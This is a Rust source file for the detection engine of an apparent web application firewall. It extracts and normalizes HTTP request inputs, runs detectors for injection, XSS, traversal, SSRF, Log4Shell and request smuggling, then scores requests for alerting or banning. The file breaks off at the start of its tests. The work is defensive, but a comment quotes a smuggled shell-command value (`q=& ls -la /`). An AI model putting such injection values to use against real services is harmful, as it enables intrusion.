//! The detection engine: extracts inputs from a request, normalizes them, runs the
//! enabled detectors and scores the result.
//!
//! Scores are additive per request. A detector reports an unambiguous attack with a
//! score at or above the default ban threshold on its own; weak signals (a lone
//! `alert(` call, a single `../`) score lower and only lead to a ban together.

mod cmdi;
mod code;
mod jndi;
mod protobuf;
mod protocol;
mod rfi;
pub mod rules;
mod scanner;
mod session;
mod smuggling;
mod sqli;
mod ssrf;
mod traversal;
mod xss;

use std::borrow::Cow;

use serde::{Deserialize, Serialize};

use crate::decode;
use crate::http::Request;

pub use protobuf::compressed_messages as grpc_compressed_messages;
pub use protobuf::{ProtoMessage, ProtoMethod, ProtoSchema};
pub use protocol::UNPARSEABLE;
/// Rule of a compressed body or gRPC message inflated past what the
/// detectors read: the request was judged only in part (truncated).
pub const INFLATE_LIMIT: &str = rules::PROTOCOL_INFLATE_LIMIT;

/// Attack family of a violation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Category {
    Sqli,
    Xss,
    Cmdi,
    Traversal,
    Ssrf,
    Jndi,
    Scanner,
    Smuggling,
    Protocol,
    /// Server-side code, expression, template and deserialization injection, XXE.
    Code,
    /// Remote file inclusion.
    Rfi,
    /// Session fixation.
    Session,
    /// GraphQL shape and abuse: introspection, depth, aliases, batches.
    Graphql,
    /// Missing or invalid credentials (API2), credential stuffing.
    Auth,
    /// Object- and function-level authorization (API1, API5).
    Authz,
    /// Object id enumeration (API1).
    Enumeration,
    /// Properties a client must not set (API3).
    #[serde(rename = "mass_assignment")]
    MassAssignment,
    /// Per-route request limits (API4, API6).
    #[serde(rename = "rate_limit")]
    RateLimit,
    /// Secrets, personal data and debug output in responses (API3, API8). Alert-only.
    Exposure,
    /// Endpoints absent from the API inventory (API9).
    Inventory,
}

impl Category {
    /// Stable lowercase name (also the serde representation).
    pub fn as_str(self) -> &'static str {
        match self {
            Category::Sqli => "sqli",
            Category::Xss => "xss",
            Category::Cmdi => "cmdi",
            Category::Traversal => "traversal",
            Category::Ssrf => "ssrf",
            Category::Jndi => "jndi",
            Category::Scanner => "scanner",
            Category::Smuggling => "smuggling",
            Category::Protocol => "protocol",
            Category::Code => "code",
            Category::Rfi => "rfi",
            Category::Session => "session",
            Category::Graphql => "graphql",
            Category::Auth => "auth",
            Category::Authz => "authz",
            Category::Enumeration => "enumeration",
            Category::MassAssignment => "mass_assignment",
            Category::RateLimit => "rate_limit",
            Category::Exposure => "exposure",
            Category::Inventory => "inventory",
        }
    }
}

impl std::fmt::Display for Category {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Where in the request the evidence was found.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "lowercase", tag = "kind", content = "name")]
pub enum Location {
    /// Request line (method, version) or the message framing.
    Request,
    Path,
    Query,
    Header(String),
    Cookie,
    Body,
    /// A text field of a gRPC message, named by its field numbers from the
    /// outermost message (`1.3`: field 3 of the message in field 1).
    Protobuf(String),
    /// Response status line or headers.
    Response,
    /// Response body.
    #[serde(rename = "response_body")]
    ResponseBody,
    /// An argument or variable of a GraphQL request: `login.password` (field and
    /// argument), `$name` (a variable no argument uses), `operationName`.
    Graphql(String),
}

/// One finding of one detector.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Violation {
    /// Stable rule id, e.g. `sqli.tautology`.
    pub rule: &'static str,
    pub category: Category,
    /// Score after the detector's weight was applied.
    pub score: u32,
    pub location: Location,
    /// Short excerpt of the offending input, long tokens masked.
    pub evidence: String,
}

/// What to do with a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Action {
    Allow,
    Alert,
    Ban,
}

/// Switch and weight of one detector.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct DetectorConfig {
    pub enabled: bool,
    /// Percentage applied to the detector's raw scores (100 = as built in).
    pub weight: u32,
}

impl Default for DetectorConfig {
    fn default() -> Self {
        DetectorConfig {
            enabled: true,
            weight: 100,
        }
    }
}

/// Detection policy. `Default` is the built-in policy.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct DetectConfig {
    pub sqli: DetectorConfig,
    pub xss: DetectorConfig,
    pub cmdi: DetectorConfig,
    pub traversal: DetectorConfig,
    pub ssrf: DetectorConfig,
    pub jndi: DetectorConfig,
    pub scanner: DetectorConfig,
    pub smuggling: DetectorConfig,
    pub protocol: DetectorConfig,
    pub code: DetectorConfig,
    pub rfi: DetectorConfig,
    pub session: DetectorConfig,
    /// GraphQL shape rules (`graphql.*`); injections in GraphQL inputs score
    /// under their own detectors.
    pub graphql: DetectorConfig,
    /// Total score at which a request is banned.
    pub ban_threshold: u32,
    /// Total score at which a request is reported (below the ban threshold).
    pub alert_threshold: u32,
    /// Header names (case-insensitive) to inspect although built-in rules skip them
    /// (every header is inspected except `Host`).
    pub extra_headers: Vec<String>,
    /// Deepest JSON nesting walked in bodies.
    pub max_json_depth: u32,
    /// Most body bytes inspected.
    pub max_body_bytes: usize,
}

/// Raw score of an unambiguous attack; the default ban threshold.
pub(crate) const STRONG: u32 = 10;

impl Default for DetectConfig {
    fn default() -> Self {
        DetectConfig {
            sqli: DetectorConfig::default(),
            xss: DetectorConfig::default(),
            cmdi: DetectorConfig::default(),
            traversal: DetectorConfig::default(),
            ssrf: DetectorConfig::default(),
            jndi: DetectorConfig::default(),
            scanner: DetectorConfig::default(),
            smuggling: DetectorConfig::default(),
            protocol: DetectorConfig::default(),
            code: DetectorConfig::default(),
            rfi: DetectorConfig::default(),
            session: DetectorConfig::default(),
            graphql: DetectorConfig::default(),
            ban_threshold: STRONG,
            alert_threshold: 3,
            extra_headers: Vec::new(),
            max_json_depth: 16,
            max_body_bytes: 64 * 1024,
        }
    }
}

/// Inputs judged per part of a request (the head, the body, GraphQL's
/// arguments and variables each have this many).
const MAX_INPUTS: usize = 512;

/// One normalized input value.
pub(crate) struct Input<'a> {
    pub location: Location,
    /// Decoded text (borrowed from the request when decoding changed nothing).
    pub text: Cow<'a, str>,
    /// True for values (parameters, JSON strings, cookies) as opposed to names,
    /// paths and whole headers; SSRF only looks at values.
    pub is_value: bool,
}

/// Collects findings with weights applied.
pub(crate) struct Sink<'a> {
    cfg: &'a DetectConfig,
    out: Vec<Violation>,
}

impl Sink<'_> {
    pub(crate) fn push(
        &mut self,
        rule: &'static str,
        category: Category,
        raw_score: u32,
        location: &Location,
        text: &str,
        at: usize,
    ) {
        debug_assert!(
            rules::RULES
                .iter()
                .any(|r| r.id == rule && r.category == category && raw_score <= r.score),
            "{rule} ({category:?}, raw score {raw_score}) disagrees with detect::rules::RULES"
        );
        let dc = match category {
            Category::Sqli => self.cfg.sqli,
            Category::Xss => self.cfg.xss,
            Category::Cmdi => self.cfg.cmdi,
            Category::Traversal => self.cfg.traversal,
            Category::Ssrf => self.cfg.ssrf,
            Category::Jndi => self.cfg.jndi,
            Category::Scanner => self.cfg.scanner,
            Category::Smuggling => self.cfg.smuggling,
            Category::Protocol => self.cfg.protocol,
            Category::Code => self.cfg.code,
            Category::Rfi => self.cfg.rfi,
            Category::Session => self.cfg.session,
            Category::Graphql => self.cfg.graphql,
            // The API layer (crate::api) reports these with its own switches; the
            // per-request detectors never do.
            Category::Auth
            | Category::Authz
            | Category::Enumeration
            | Category::MassAssignment
            | Category::RateLimit
            | Category::Exposure
            | Category::Inventory => DetectorConfig::default(),
        };
        if !dc.enabled {
            return;
        }
        let score = raw_score.saturating_mul(dc.weight) / 100;
        // Credentials (decoded Basic user names and passwords, tokens) stay out of
        // logs: the rule and location say enough, and a false positive must not
        // leak an innocent user's password.
        let evidence = |text: &str, at: usize| {
            if is_credentials(location) {
                CREDENTIALS_WITHHELD.to_owned()
            } else {
                evidence(text, at)
            }
        };
        // One finding per rule and location is enough for scoring and reporting;
        // keep the strongest.
        if let Some(v) = self
            .out
            .iter_mut()
            .find(|v| v.rule == rule && v.location == *location)
        {
            if score > v.score {
                v.score = score;
                v.evidence = evidence(text, at);
            }
            return;
        }
        self.out.push(Violation {
            rule,
            category,
            score,
            location: location.clone(),
            evidence: evidence(text, at),
        });
    }
}

/// Evidence of findings in credentials.
const CREDENTIALS_WITHHELD: &str = "(credentials withheld)";

/// Headers carrying credentials (lower case).
const CREDENTIAL_HEADERS: &[&str] = &["authorization", "proxy-authorization"];

/// Is `loc` a header carrying credentials?
fn is_credentials(loc: &Location) -> bool {
    matches!(loc, Location::Header(h) if CREDENTIAL_HEADERS.iter().any(|c| h.eq_ignore_ascii_case(c)))
}

/// Excerpt of at most ~80 bytes around `at`, with long opaque tokens masked so that
/// session ids and API keys do not end up in logs.
fn evidence(text: &str, at: usize) -> String {
    let start = at.saturating_sub(16).min(text.len());
    let mut s = start;
    while !text.is_char_boundary(s) {
        s -= 1;
    }
    let slice = decode::truncate(&text[s..], 80);
    let b = slice.as_bytes();
    let mut out = String::with_capacity(slice.len());
    // Everything is copied verbatim except runs of 20 or more token bytes (cut to
    // their first 4 and `***`) and control characters (escaped). `done` is how much
    // of `slice` is in `out`; token bytes are ASCII, so runs are subslices.
    let mut done = 0;
    let mut run = 0;
    let mask = |run: usize, end: usize, done: &mut usize, out: &mut String| {
        if end - run >= 20 {
            out.push_str(&slice[*done..run + 4]);
            out.push_str("***");
            *done = end;
        }
    };
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c.is_ascii_alphanumeric() || c == b'_' || c == b'-' {
            i += 1;
            continue;
        }
        mask(run, i, &mut done, &mut out);
        let ch = if c.is_ascii() {
            char::from(c)
        } else {
            slice[i..].chars().next().unwrap_or('\u{fffd}')
        };
        if ch.is_control() {
            out.push_str(&slice[done..i]);
            out.extend(ch.escape_default());
            done = i + ch.len_utf8();
        }
        i += ch.len_utf8();
        run = i;
    }
    mask(run, b.len(), &mut done, &mut out);
    out.push_str(&slice[done..]);
    out
}

/// Stateless per-request detection engine. Build once with [`Engine::new`]; all
/// matchers are compiled there.
pub struct Engine {
    cfg: DetectConfig,
    extra_headers: Vec<String>,
    sqli: sqli::Sqli,
    xss: xss::Xss,
    cmdi: cmdi::Cmdi,
    traversal: traversal::Traversal,
    scanner: scanner::Scanner,
    code: code::Code,
    graphql: Option<crate::graphql::Graphql>,
    /// A descriptor set: gRPC fields located by name.
    proto: Option<std::sync::Arc<ProtoSchema>>,
}

impl Engine {
    pub fn new(cfg: DetectConfig) -> Engine {
        let extra_headers = cfg
            .extra_headers
            .iter()
            .map(|h| h.to_ascii_lowercase())
            .collect();
        Engine {
            extra_headers,
            sqli: sqli::Sqli::new(),
            xss: xss::Xss::new(),
            cmdi: cmdi::Cmdi::new(),
            traversal: traversal::Traversal::new(),
            scanner: scanner::Scanner::new(),
            code: code::Code::new(),
            graphql: None,
            proto: None,
            cfg,
        }
    }

    /// Names gRPC request fields after this descriptor set.
    #[must_use]
    pub fn with_protobuf(mut self, schema: Option<std::sync::Arc<ProtoSchema>>) -> Engine {
        self.proto = schema;
        self
    }

    /// Recognises GraphQL requests with these settings (paths, limits).
    #[must_use]
    pub fn with_graphql(mut self, cfg: crate::graphql::GraphqlConfig) -> Engine {
        self.graphql = Some(crate::graphql::Graphql::new(cfg));
        self
    }

    /// The GraphQL content of a request to a GraphQL path (parsed once; pass it
    /// to [`Engine::inspect_with`] and the API layer).
    pub fn graphql(&self, req: &Request) -> Option<crate::graphql::Analysis> {
        self.graphql.as_ref().and_then(|g| g.analyze(req))
    }

    /// Whether the request goes to a path served by GraphQL.
    pub fn is_graphql_path(&self, req: &Request) -> bool {
        self.graphql
            .as_ref()
            .is_some_and(|g| g.is_graphql_path(req))
    }

    pub fn config(&self) -> &DetectConfig {
        &self.cfg
    }

    /// Runs every enabled detector on the request.
    pub fn inspect_request(&self, req: &Request) -> Vec<Violation> {
        self.inspect_with(req, self.graphql(req).as_ref())
    }

    /// [`Engine::inspect_request`] with the request's GraphQL analysis done:
    /// its findings are added, and its arguments and variables are judged in
    /// place of the JSON body, each named after what it feeds.
    pub fn inspect_with(
        &self,
        req: &Request,
        gql: Option<&crate::graphql::Analysis>,
    ) -> Vec<Violation> {
        let mut sink = Sink {
            cfg: &self.cfg,
            out: Vec::new(),
        };
        smuggling::check_request(req, &mut sink);
        // The decoded path serves both the scanner and the path input.
        let path = decode::normalize_cow(&req.path, false);
        if self.cfg.scanner.enabled {
            self.scanner.check_request(req, &path, &mut sink);
        }
        if self.cfg.jndi.enabled {
            // Log4Shell payloads work in any header, so look at all of them.
            for (name, value) in &req.headers {
                // A lookup needs a `$`, literal or encoded; most headers have neither.
                let encoded = value.contains(['%', '&', '\\']);
                if !encoded && !value.contains('$') {
                    continue;
                }
                let loc = Location::Header(name.clone());
                jndi::check(value, &loc, &mut sink);
                if encoded {
                    jndi::check(&decode::normalize(value, false), &loc, &mut sink);
                }
            }
        }
        // A GraphQL request is judged by its arguments and variables; a body on
        // a GraphQL path that carries neither is judged like any other.
        let graphql = gql.is_some_and(|a| a.document || !a.inputs.is_empty());
        let body = (!req.body.is_empty() && !graphql).then(|| {
            String::from_utf8_lossy(&req.body[..req.body.len().min(self.cfg.max_body_bytes)])
        });
        let mut past_budget = None;
        let mut inputs = self.extract(req, path, body.as_deref(), graphql, &mut past_budget);
        if self.cfg.protocol.enabled {
            self.inflate_limit(req, past_budget, &mut sink);
        }
        if let Some(a) = gql {
            for (rule, score, ev) in &a.findings {
                sink.push(rule, Category::Graphql, *score, &Location::Body, ev, 0);
            }
            // Arguments and variables have their own budget, as a body has.
            let mut args = Vec::new();
            for (loc, text, is_value) in &a.inputs {
                push(
                    &mut args,
                    Location::Graphql(loc.clone()),
                    decode::normalize_cow(text, false),
                    *is_value,
                );
            }
            inputs.append(&mut args);
        }
        // One lowercase buffer for all inputs of the request.
        let mut lower = String::new();
        for inp in &inputs {
            self.check_input(inp, &mut lower, &mut sink);
        }
        // Checks that pair parameter names with their values or look at the request.
        if self.cfg.rfi.enabled {
            rfi::check(&inputs, &mut sink);
        }
        if self.cfg.session.enabled {
            session::check(req, &inputs, &mut sink);
        }
        if self.cfg.protocol.enabled {
            protocol::check_request(req, &mut sink);
            protocol::check_inputs(&inputs, &mut sink);
        }
        sink.out
    }

    /// `protocol.inflate_limit`: a compressed body, or gRPC message, inflated
    /// past what the detectors read: the rest is not judged, so an injection
    /// behind a compression bomb is reported rather than passed in silence.
    fn inflate_limit(
        &self,
        req: &Request,
        grpc: Option<protobuf::PastBudget>,
        sink: &mut Sink<'_>,
    ) {
        let cap = self.cfg.max_body_bytes;
        let (what, bomb) = if let Some(p) = grpc {
            let enc = req.header("grpc-encoding").unwrap_or("").trim();
            let bomb = p.total > protobuf::BOMB_BYTES;
            let what = if p.inflated == 0 {
                format!("{enc} gRPC message of {} bytes", p.compressed)
            } else if bomb {
                format!(
                    "{enc} gRPC message of {} bytes inflating past {} MiB",
                    p.compressed,
                    protobuf::BOMB_BYTES >> 20
                )
            } else {
                format!(
                    "{enc} gRPC message of {} bytes inflating to {}",
                    p.compressed, p.total
                )
            };
            // The message filled the whole budget by itself, and goes on
            // past what any gRPC server accepts.
            (what, p.inflated >= cap && bomb)
        } else {
            // The parser inflated the body (to at most 1 MiB); the detectors
            // read its first `cap` bytes. Its compressed size is gone.
            let Some(enc) = req.header("content-encoding").map(str::trim) else {
                return;
            };
            let inflatable = ["gzip", "x-gzip", "deflate"]
                .iter()
                .any(|e| enc.eq_ignore_ascii_case(e));
            if !inflatable || req.body.len() <= cap {
                return;
            }
            (
                format!("{enc} body inflating to {} bytes", req.body.len()),
                false,
            )
        };
        // Reported always, scored only for a bomb: large compressed bodies,
        // large sparse messages (they compress past 50:1) and streams of
        // small compressed messages are ordinary (exporters, uploads) and
        // must not add up to a ban. The size it inflates to tells, not its
        // ratio (which trailing bytes would also dilute).
        let score = if bomb { 6 } else { 0 };
        sink.push(
            rules::PROTOCOL_INFLATE_LIMIT,
            Category::Protocol,
            score,
            &Location::Body,
            &format!("not judged past {cap}: {what}"),
            0,
        );
    }

    fn check_input(&self, inp: &Input<'_>, lower: &mut String, sink: &mut Sink<'_>) {
        let text = inp.text.as_ref();
        if text.is_empty() {
            return;
        }
        lower.clear();
        lower.push_str(text);
        lower.make_ascii_lowercase();
        let lower = lower.as_str();
        let set = ByteSet::of(lower.as_bytes());
        // Before the plain-word shortcut: bare Java class names are plain words.
        if self.cfg.code.enabled {
            self.code
                .check(lower, text, inp.is_value, &inp.location, sink);
        }
        if self.cfg.sqli.enabled {
            self.sqli.check(lower, &set, &inp.location, sink);
        }
        // Most values are words, numbers and ids. Those cannot carry markup, shell
        // syntax, lookups or request lines, so only the word-based checks run.
        const PLAIN: ByteSet = ByteSet::range(b'0', b'9')
            .union(ByteSet::range(b'a', b'z'))
            .union(ByteSet::range(b'A', b'Z'))
            .union(ByteSet::from(b" _,."));
        let plain = set.within(&PLAIN);
        if plain {
            if self.cfg.traversal.enabled && (lower.contains("0x") || lower.contains("..")) {
                self.traversal.check(lower, &set, &inp.location, sink);
            }
            if self.cfg.ssrf.enabled && inp.is_value {
                ssrf::check(lower, &inp.location, sink);
            }
            if self.cfg.cmdi.enabled {
                self.cmdi.check_plain(lower, &inp.location, sink);
            }
            return;
        }
        if self.cfg.xss.enabled {
            self.xss.check(lower, &set, &inp.location, sink);
        }
        if self.cfg.cmdi.enabled {
            self.cmdi.check(lower, &set, &inp.location, sink);
        }
        if self.cfg.traversal.enabled {
            self.traversal.check(lower, &set, &inp.location, sink);
        }
        if self.cfg.ssrf.enabled && inp.is_value {
            ssrf::check(lower, &inp.location, sink);
        }
        if self.cfg.jndi.enabled && !matches!(inp.location, Location::Header(_)) {
            jndi::check(text, &inp.location, sink);
        }
        if self.cfg.smuggling.enabled || self.cfg.protocol.enabled {
            smuggling::check_value(text, &set, &inp.location, sink);
        }
    }

    /// Sum of scores and the resulting action.
    pub fn verdict(&self, violations: &[Violation]) -> Action {
        let total: u32 = violations
            .iter()
            .map(|v| v.score)
            .fold(0, u32::saturating_add);
        if total >= self.cfg.ban_threshold && self.cfg.ban_threshold > 0 {
            Action::Ban
        } else if total >= self.cfg.alert_threshold.max(1) {
            Action::Alert
        } else {
            Action::Allow
        }
    }

    /// Whether a header's value reaches the detectors. Every header does (attacks
    /// are sent in `X-Request-Id`, `Accept-Language`, `Range`, `Content-Type`
    /// (Struts' OGNL), `If-None-Match` as well as in `User-Agent`) except those on
    /// the short list below, each for a false positive judging it is known to
    /// cause. (Cookies are judged pair by pair, credentials decoded, Referer and
    /// Origin as URLs: see [`Engine::extract`].)
    fn wants_header(&self, name: &str) -> bool {
        if self
            .extra_headers
            .iter()
            .any(|h| h.eq_ignore_ascii_case(name))
        {
            return true;
        }
        // `Host` names the service itself, and services are reached by internal
        // names and addresses (`localhost`, `10.0.0.5:8080`, `api.internal`): the
        // SSRF check, whose job is to flag exactly those names in values, would
        // score every request sent to an internal service. Host-header attacks
        // (absolute-form mismatches, duplicate or malformed Host) are the protocol
        // checks' job.
        !name.eq_ignore_ascii_case("host")
    }

    /// Extracts and normalizes every inspected string of the request; `path` is the
    /// normalized path and `body` the inspected prefix of the body as text.
    fn extract<'a>(
        &self,
        req: &'a Request,
        path: Cow<'a, str>,
        body: Option<&'a str>,
        graphql: bool,
        past_budget: &mut Option<protobuf::PastBudget>,
    ) -> Vec<Input<'a>> {
        let mut v: Vec<Input<'a>> = Vec::new();
        v.push(Input {
            location: Location::Path,
            text: path,
            is_value: false,
        });
        if let Some(q) = &req.query {
            if graphql {
                // The document and variables are judged as GraphQL.
                for pair in q.split('&').filter(|p| {
                    !["query=", "variables=", "operationName="]
                        .iter()
                        .any(|k| p.starts_with(k))
                }) {
                    push_pairs(&mut v, pair, Location::Query);
                }
            } else {
                push_pairs(&mut v, q, Location::Query);
            }
        }
        for (name, value) in &req.headers {
            if name.eq_ignore_ascii_case("cookie") {
                for part in value.split(';') {
                    let (k, val) = part.split_once('=').unwrap_or(("", part));
                    push(
                        &mut v,
                        Location::Cookie,
                        decode::normalize_cow(k.trim(), false),
                        false,
                    );
                    push(
                        &mut v,
                        Location::Cookie,
                        decode::normalize_cow(val.trim(), true),
                        true,
                    );
                }
            } else if !self.wants_header(name) {
            } else if is_credentials(&Location::Header(name.clone())) {
                push_credentials(&mut v, value, Location::Header(name.clone()));
            } else {
                let loc = Location::Header(name.clone());
                let url_header =
                    name.eq_ignore_ascii_case("referer") || name.eq_ignore_ascii_case("origin");
                if url_header && let Some(url) = split_url(value) {
                    push_url(&mut v, url, &loc);
                } else {
                    // A Referer or Origin that is no URL was not written by a browser:
                    // judge it whole, like any other header.
                    let is_value = !url_header && !name.eq_ignore_ascii_case("user-agent");
                    push(&mut v, loc, decode::normalize_cow(value, false), is_value);
                }
            }
        }
        // The body has its own budget of inputs: a head padded with
        // hundreds of cookies must not push the body's values out.
        let head = v;
        let mut v = Vec::new();
        let grpc = req.header("content-type").is_some_and(protobuf::is_grpc)
            && protobuf::framed(&req.body);
        if grpc {
            // Binary protobuf: its text fields, as JSON string values are.
            let cut = req.body.len().min(self.cfg.max_body_bytes);
            *past_budget = protobuf::walk_grpc(
                &mut v,
                &req.body[..cut],
                self.cfg.max_json_depth,
                req.header("grpc-encoding"),
                self.cfg.max_body_bytes,
                protobuf::Names::for_method(self.proto.as_deref(), &req.path),
            );
        }
        if let Some(text) = body.filter(|_| !grpc && !graphql) {
            let ctype = req
                .header("content-type")
                .unwrap_or("")
                .to_ascii_lowercase();
            let trimmed = text.trim_start();
            let mut handled = false;
            if (ctype.contains("json") || trimmed.starts_with('{') || trimmed.starts_with('['))
                && let Ok(val) = serde_json::from_str::<serde_json::Value>(text)
            {
                walk_json(&mut v, &val, self.cfg.max_json_depth);
                handled = true;
            }
            if !handled
                && (ctype.contains("x-www-form-urlencoded")
                    || (ctype.is_empty() && text.contains('=')))
            {
                push_pairs(&mut v, text, Location::Body);
                handled = true;
            }
            if !handled && trimmed.starts_with('<') {
                push_markup(&mut v, text);
            }
            if !handled {
                push(
                    &mut v,
                    Location::Body,
                    decode::normalize_cow(text, false),
                    true,
                );
            }
        }
        let mut all = head;
        all.append(&mut v);
        all
    }
}

fn push<'a>(v: &mut Vec<Input<'a>>, location: Location, text: Cow<'a, str>, is_value: bool) {
    if v.len() < MAX_INPUTS && !text.is_empty() {
        v.push(Input {
            location,
            text,
            is_value,
        });
    }
}

/// Pushes the credentials of an `Authorization` or `Proxy-Authorization` value as
/// values: Basic credentials decoded, the user name and the password apart (SQL
/// injection in a user name is a classic: the back end looks the user up); any
/// other scheme's credentials (a bearer token) as they are.
fn push_credentials<'a>(v: &mut Vec<Input<'a>>, value: &'a str, loc: Location) {
    use base64::Engine as _;
    use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
    // Clients are sloppy with padding; the server decodes what it gets.
    const BASIC: GeneralPurpose = GeneralPurpose::new(
        &base64::alphabet::STANDARD,
        GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
    );
    let value = value.trim();
    let (scheme, creds) = value
        .split_once(char::is_whitespace)
        .map_or(("", value), |(s, c)| (s, c.trim()));
    if scheme.eq_ignore_ascii_case("basic")
        && let Ok(bytes) = BASIC.decode(creds)
    {
        let text = String::from_utf8_lossy(&bytes);
        let (user, password) = text.split_once(':').unwrap_or((&text, ""));
        push(v, loc.clone(), decode::normalize(user, false).into(), true);
        push(v, loc, decode::normalize(password, false).into(), true);
        return;
    }
    push(v, loc, decode::normalize_cow(creds, false), true);
}

/// A URL split into the part before the query, the query and the fragment.
struct Url<'a> {
    base: &'a str,
    query: Option<&'a str>,
    fragment: Option<&'a str>,
}

/// Splits an absolute (`scheme://…`) or origin-relative (`/…`) URL, as browsers
/// send in Referer and Origin; `None` for anything else.
fn split_url(value: &str) -> Option<Url<'_>> {
    let value = value.trim();
    let absolute = value.split_once("://").is_some_and(|(scheme, _)| {
        scheme
            .bytes()
            .next()
            .is_some_and(|b| b.is_ascii_alphabetic())
            && scheme
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
    });
    if !absolute && !value.starts_with('/') {
        return None;
    }
    let (rest, fragment) = match value.split_once('#') {
        Some((r, f)) => (r, Some(f)),
        None => (value, None),
    };
    let (base, query) = match rest.split_once('?') {
        Some((b, q)) => (b, Some(q)),
        None => (rest, None),
    };
    Some(Url {
        base,
        query,
        fragment,
    })
}

/// Pushes a URL header (Referer, Origin) as a URL: the scheme, host and path as
/// one string; the query parameters one by one, as this request's own query
/// parameters are (they are as attacker-chosen, and reflected by analytics and
/// logs); the fragment as a value. The query is never judged whole: `a=1&sort=desc`
/// is a parameter list, not a shell command chain.
fn push_url<'a>(v: &mut Vec<Input<'a>>, url: Url<'a>, loc: &Location) {
    push(
        v,
        loc.clone(),
        decode::normalize_cow(url.base, false),
        false,
    );
    if let Some(q) = url.query {
        push_pairs(v, q, loc.clone());
    }
    if let Some(f) = url.fragment {
        push(v, loc.clone(), decode::normalize_cow(f, true), true);
    }
}

/// Splits `a=b&c=d` and pushes names and values; parameters without `=` are values.
fn push_pairs<'a>(v: &mut Vec<Input<'a>>, s: &'a str, loc: Location) {
    for part in s.split('&') {
        match part.split_once('=') {
            Some((k, val)) => {
                push(v, loc.clone(), decode::normalize_cow(k, true), false);
                push(v, loc.clone(), decode::normalize_cow(val, true), true);
            }
            // A bare segment is a value of its own (`?database(`), or follows an
            // unencoded `&` inside a payload (`q=& ls -la /`): inspect it both alone
            // and with the `&` so the separator stays visible. (Findings are kept
            // once per rule and location, so the two do not add up.)
            None if !part.is_empty() => {
                let text = decode::normalize_cow(part, true);
                let mut amp = String::with_capacity(text.len() + 1);
                amp.push('&');
                amp.push_str(&text);
                push(v, loc.clone(), text, true);
                push(v, loc.clone(), amp.into(), true);
            }
            None => {}
        }
    }
}

/// Pushes attribute values and text nodes of an XML/HTML body as separate values,
/// so that value-anchored checks (SSRF hosts, break-outs) see them alone.
fn push_markup(v: &mut Vec<Input<'_>>, text: &str) {
    let mut rest = text;
    let mut budget = 128;
    while budget > 0 {
        budget -= 1;
        let Some(p) = rest.find(['"', '>']) else {
            break;
        };
        let close = if rest.as_bytes()[p] == b'"' { '"' } else { '<' };
        let after = &rest[p + 1..];
        let Some(e) = after.find(close) else { break };
        let val = after[..e].trim();
        if !val.is_empty() {
            push(
                v,
                Location::Body,
                decode::normalize(&decode::html_decode(val), false).into(),
                true,
            );
        }
        rest = &after[e + 1..];
    }
}

fn walk_json(v: &mut Vec<Input<'_>>, val: &serde_json::Value, depth: u32) {
    use serde_json::Value;
    if depth == 0 || v.len() >= MAX_INPUTS {
        return;
    }
    match val {
        // Values arrive already JSON-unescaped; still run the generic decoder since
        // APIs often forward them into URLs or HTML.
        Value::String(s) => push(v, Location::Body, decode::normalize(s, false).into(), true),
        Value::Array(a) => {
            for x in a {
                walk_json(v, x, depth - 1);
            }
        }
        Value::Object(o) => {
            for (k, x) in o {
                push(v, Location::Body, decode::normalize(k, false).into(), false);
                walk_json(v, x, depth - 1);
            }
        }
        _ => {}
    }
}

/// The set of byte values occurring in an input, built in one pass so that the
/// detectors' "does it contain any of these bytes" pre-filters cost O(1) each.
#[derive(Clone, Copy)]
pub(crate) struct ByteSet([u64; 4]);

impl ByteSet {
    pub(crate) fn of(s: &[u8]) -> ByteSet {
        let mut m = [0u64; 4];
        for &b in s {
            m[usize::from(b >> 6)] |= 1 << (b & 63);
        }
        ByteSet(m)
    }

    /// The set of `bytes` (for constant masks).
    pub(crate) const fn from(bytes: &[u8]) -> ByteSet {
        let mut m = [0u64; 4];
        let mut k = 0;
        while k < bytes.len() {
            m[(bytes[k] >> 6) as usize] |= 1 << (bytes[k] & 63);
            k += 1;
        }
        ByteSet(m)
    }

    /// The set of the bytes in `lo..=hi`.
    pub(crate) const fn range(lo: u8, hi: u8) -> ByteSet {
        let mut m = [0u64; 4];
        let mut b = lo as usize;
        while b <= hi as usize {
            m[b >> 6] |= 1 << (b & 63);
            b += 1;
        }
        ByteSet(m)
    }

    pub(crate) const fn union(self, other: ByteSet) -> ByteSet {
        let (a, b) = (self.0, other.0);
        ByteSet([a[0] | b[0], a[1] | b[1], a[2] | b[2], a[3] | b[3]])
    }

    /// Does any byte of `mask` occur?
    pub(crate) fn any(&self, mask: &ByteSet) -> bool {
        let (a, b) = (self.0, mask.0);
        (a[0] & b[0]) | (a[1] & b[1]) | (a[2] & b[2]) | (a[3] & b[3]) != 0
    }

    /// Do only bytes of `mask` occur?
    pub(crate) fn within(&self, mask: &ByteSet) -> bool {
        let (a, b) = (self.0, mask.0);
        (a[0] & !b[0]) | (a[1] & !b[1]) | (a[2] & !b[2]) | (a[3] & !b[3]) == 0
    }
}

/// Byte offset helper: is `b` a word character for keyword boundaries.
pub(crate) fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Builds a leftmost-longest matcher over built-in pattern lists.
#[allow(clippy::expect_used)]
pub(crate) fn matcher(patterns: &[&str]) -> aho_corasick::AhoCorasick {
    // The patterns are compile-time constants far below the automaton size limits,
    // so a build failure is a programming error caught by every unit test.
    aho_corasick::AhoCorasick::builder()
        .match_kind(aho_corasick::MatchKind::LeftmostLongest)
        .build(patterns)
        .expect("built-in patterns compile")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::{Parsed, parse_request};

    /// The action for `payload` sent as the `q` query parameter.
